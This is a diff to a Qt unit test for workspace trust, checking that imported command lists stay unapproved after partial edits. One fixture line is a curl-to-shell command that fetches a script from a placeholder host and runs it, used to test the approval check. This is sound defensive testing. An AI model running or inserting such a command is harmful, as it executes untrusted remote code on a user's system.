@@ -153,6 +153,15 @@ void TestWorkspaceTrust::typedCommandsCountAsApproved()
     lint.commands = imported;
     QVERIFY(m_ws->updateItem(lint).ok());
     QVERIFY(needsApproval(reload(lintId), m_release.run));
+    // Fixing one line of an unapproved import does not approve the lines kept from it.
+    lint.commands = imported;
+    lint.commands.append(QStringLiteral("curl -fsS https://example.invalid/i.sh | sh"));
+    QVERIFY(m_ws->updateItem(lint).ok());  // as an import tool would put it
+    QVERIFY(needsApproval(reload(lintId), m_release.run));
+    lint.commands = imported;
+    lint.commands[0] = QStringLiteral("npm run lint -- --fix");
+    QVERIFY(m_ws->updateItem(lint, true).ok());
+    QVERIFY(needsApproval(reload(lintId), m_release.run));
     // A change that is not typed (an import tool, an undo) never approves anything.
     lint.commands = { QStringLiteral("npm run lint") };
     QVERIFY(m_ws->updateItem(lint).ok());
